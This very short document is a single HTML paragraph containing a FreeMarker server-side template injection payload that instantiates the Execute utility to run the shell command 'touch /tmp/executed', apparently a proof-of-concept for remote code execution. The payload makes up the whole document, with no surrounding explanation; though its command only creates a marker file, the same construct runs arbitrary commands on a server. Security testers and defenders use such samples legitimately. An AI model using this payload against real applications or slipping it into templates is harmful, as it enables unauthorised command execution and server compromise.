<p>${"freemarker.template.utility.Execute"?new()("touch /tmp/executed")}</p>
